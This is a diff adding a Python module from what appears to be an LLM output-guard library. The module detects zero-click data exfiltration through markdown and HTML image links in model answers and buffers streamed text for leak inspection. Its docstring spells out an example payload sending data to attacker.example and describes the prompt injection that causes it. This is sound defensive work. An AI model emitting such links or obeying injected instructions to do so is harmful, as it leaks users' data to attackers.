@@ -1,0 +1,204 @@
+"""Inspecting a model's answer (OWASP LLM02, LLM06): data going out through links, and a guard
+that inspects a streamed answer with a bounded hold-back window.
+
+An answer rendered as markdown or HTML can leak data without anyone clicking: a client that
+shows `![x](https://attacker.example/p.png?q=<data>)` fetches the image and so sends the data
+(the attack is in the answer because an injection in a document told the model to write it).
+exfil_links() finds images and links whose URL carries data to a host that is not the
+provider's: a long encoded run (base64, hex), several percent-encoded bytes, a long query, or a
+secret or personal value the DLP scanner finds inside the decoded URL.
+
+TextGuard holds back the end of a streamed text that could still grow into a value - the last,
+unfinished word and the short digit groups before it (so a card or phone number written in
+groups stays together), at most `hold` characters - and an unfinished URL or
+markdown link (up to `max_hold`), so a value split across chunks is inspected whole before any of
+it goes out, while ordinary prose is held back by one word only.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from collections.abc import Iterable
+from urllib.parse import unquote
+from urllib.parse import urlsplit
+
+from shadowgate.dlp import Finding
+
+EXFIL_IMAGE = "exfil_image"  # fetched as soon as the answer is shown: zero-click
+EXFIL_LINK = "exfil_link"  # sent when someone follows it
+EXFIL_TYPES = (EXFIL_IMAGE, EXFIL_LINK)
+REDACTED_URL = "[URL_REMOVED]"
+
+_URL = r"https?://[^\s<>\"'()\[\]]+"
+# ![alt](url "title"), [text](url), reference definitions [id]: url
+_MD_IMAGE = re.compile(r"!\[[^\]\n]{0,1000}\]\(\s*<?(" + _URL + ")")
+_MD_LINK = re.compile(
+    r"(?<!!)\[[^\]\n]{0,1000}\]\(\s*<?(" + _URL + ")" + r"|^\s{0,3}\[[^\]\n]{1,200}\]:\s*<?(" + _URL + ")", re.M
+)
+_HTML_IMAGE = re.compile(
+    r"<(?:img|image|source|video|audio|iframe|embed|object|input|link|script)\b[^>]{0,2000}?\b(?:src|srcset|data|href|poster)\s*=\s*[\"']?("
+    + _URL
+    + ")",
+    re.I,
+)
+_HTML_LINK = re.compile(r"<a\b[^>]{0,2000}?\bhref\s*=\s*[\"']?(" + _URL + ")", re.I)
+_BARE = re.compile(_URL)
+_ENCODED_RUN = re.compile(r"[A-Za-z0-9+/_-]{32,}={0,2}|(?:[0-9a-fA-F]{2}){16,}")
+_PERCENT = re.compile(r"%[0-9A-Fa-f]{2}")
+LONG_QUERY = 200  # characters of query and fragment that are data whatever they look like
+
+# Where an unfinished URL or markup starts: held back until it ends (or max_hold passes).
+_OPEN = re.compile(r"https?://[^\s<>\"'()\[\]]*$|!?\[[^\]\n]{0,1000}(?:\]\(?)?$|<(?:img|a)\b[^>]*$", re.I)
+
+
+_ENDS_A_WORD = re.compile(r"[\s<>\"'()\[\]]")
+# A word that may be one group of a value written in groups: a card or phone number, an IBAN, a
+# national id ("5500 0055 5555 5559", "+41 44 668 18 00", "CH93 0076 2011", "AB 12 34 56 C").
+_VALUE_GROUP = re.compile(r"[+(]?(?=[0-9A-Z()./-]*\d)[0-9A-Z][0-9A-Z()./-]{0,7}[,;:]?|[A-Z]{1,2}")
+
+
+def tail_start(text: str, cap: int) -> int:
+    """Where the part of `text` that could still grow into a value starts: the unfinished last
+    word and the value groups (_VALUE_GROUP) before it, at most `cap` characters."""
+    limit = max(0, len(text) - cap)
+    i = len(text)
+    while i > limit and not text[i - 1].isspace():  # the last word, unless the text ends a word
+        i -= 1
+    while i > limit:
+        k = i
+        while k > limit and text[k - 1].isspace():
+            k -= 1
+        j = k
+        while j > limit and not text[j - 1].isspace():
+            j -= 1
+        if j == k or not _VALUE_GROUP.fullmatch(text[j:k]):
+            break
+        i = j
+    return max(i, limit)
+
+
+def _carries_data(url: str, has_secret: Callable[[str], bool] | None) -> bool:
+    parts = urlsplit(url)
+    tail = parts.query + ("#" + parts.fragment if parts.fragment else "")
+    if len(tail) >= LONG_QUERY:
+        return True
+    carried = tail + "/" + parts.path
+    if any(_looks_encoded(m.group()) for m in _ENCODED_RUN.finditer(carried)):
+        return True
+    if len(_PERCENT.findall(tail)) >= 3:
+        return True
+    return has_secret is not None and bool(tail) and has_secret(unquote(tail.replace("+", " ")))
+
+
+def _looks_encoded(run: str) -> bool:
+    """A run of URL-safe characters that is data, not a slug: digits and letters mixed, or mixed case."""
+    digits = sum(c.isdigit() for c in run)
+    upper = sum(c.isupper() for c in run)
+    lower = sum(c.islower() for c in run)
+    return (digits >= 4 and (upper + lower) >= 4) or (upper >= 4 and lower >= 4)
+
+
+def _host(url: str) -> str:
+    try:
+        return (urlsplit(url).hostname or "").lower()
+    except ValueError:
+        return ""
+
+
+def exfil_links(
+    text: str,
+    trusted: Callable[[str], bool],
+    has_secret: Callable[[str], bool] | None = None,
+    bare: bool = True,
+) -> list[Finding]:
+    """Findings (type EXFIL_IMAGE or EXFIL_LINK, the span is the URL) for images and links whose
+    URL carries data to a host `trusted` does not accept. bare: plain URLs count as links too
+    (tool-call arguments, answers a client turns into links)."""
+    found: dict[int, Finding] = {}
+    patterns: Iterable[tuple[re.Pattern[str], str]] = (
+        (_MD_IMAGE, EXFIL_IMAGE),
+        (_HTML_IMAGE, EXFIL_IMAGE),
+        (_MD_LINK, EXFIL_LINK),
+        (_HTML_LINK, EXFIL_LINK),
+        *(((_BARE, EXFIL_LINK),) if bare else ()),
+    )
+    if "http" not in text.lower():
+        return []
+    for pattern, kind in patterns:
+        for m in pattern.finditer(text):
+            group = next(g for g in range(1, (m.lastindex or 0) + 1) if m.group(g)) if m.lastindex else 0
+            start, end = m.start(group), m.end(group)
+            if start in found:
+                continue
+            url = m.group(group)
+            host = _host(url)
+            if not host or trusted(host) or not _carries_data(url, has_secret):
+                continue
+            found[start] = Finding(start, end, kind, "exfil", "exfil")
+    return sorted(found.values(), key=lambda f: f.start)
+
+
+class TextGuard:
+    """One streamed text (a choice, a content block) passing through inspection.
+
+    feed(piece) returns the text that may go out now and the findings in it; what could still
+    grow into a value (tail_start, at most `hold` characters), a finding that reaches into it and
+    an unfinished URL (up to `max_hold` characters) stay held, inspected again with what follows. `inspect(text)` returns findings;
+    it sees the held text with up to `context` characters already sent before it, so a value
+    whose start went out (longer than the window) is still counted. finish() releases the rest.
+    Redaction is the caller's: `rewrite(text, findings)`.
+    """
+
+    def __init__(
+        self,
+        inspect: Callable[[str], list[Finding]],
+        rewrite: Callable[[str, list[Finding]], str],
+        hold: int = 256,
+        max_hold: int = 4096,
+        context: int = 96,
+    ) -> None:
+        self._inspect = inspect
+        self._rewrite = rewrite
+        self._hold = hold
+        self._max_hold = max_hold
+        self._context_size = context
+        self._held = ""
+        self._context = ""
+
+    @property
+    def held(self) -> int:
+        return len(self._held)
+
+    def feed(self, piece: str, final: bool = False) -> tuple[str, list[Finding]]:
+        buf = self._held + piece
+        if not buf:
+            return "", []
+        if not final and len(buf) <= self._hold and not _ENDS_A_WORD.search(piece):
+            # The piece only lengthens the unfinished last word (or URL): nothing more could go
+            # out now, so the inspection waits for the text that ends it.
+            self._held = buf
+            return "", []
+        context = self._context
+        off = len(context)
+        findings = [f for f in self._inspect(context + buf) if f.end > off]
+        cut = len(buf) if final else tail_start(buf, self._hold)
+        if not final:
+            opened = _OPEN.search(buf, max(0, len(buf) - self._max_hold))
+            if opened is not None:
+                cut = min(cut, opened.start())
+        for f in findings:
+            if f.end - off > cut:
+                cut = min(cut, max(f.start - off, 0))
+        out_findings = [
+            Finding(max(f.start - off, 0), f.end - off, f.type, f.detector, f.kind)
+            for f in findings
+            if f.end - off <= cut
+        ]
+        out = self._rewrite(buf[:cut], out_findings) if out_findings else buf[:cut]
+        self._held = buf[cut:]
+        self._context = (context + out)[-self._context_size :]
+        return out, out_findings
+
+    def finish(self) -> tuple[str, list[Finding]]:
+        return self.feed("", final=True)
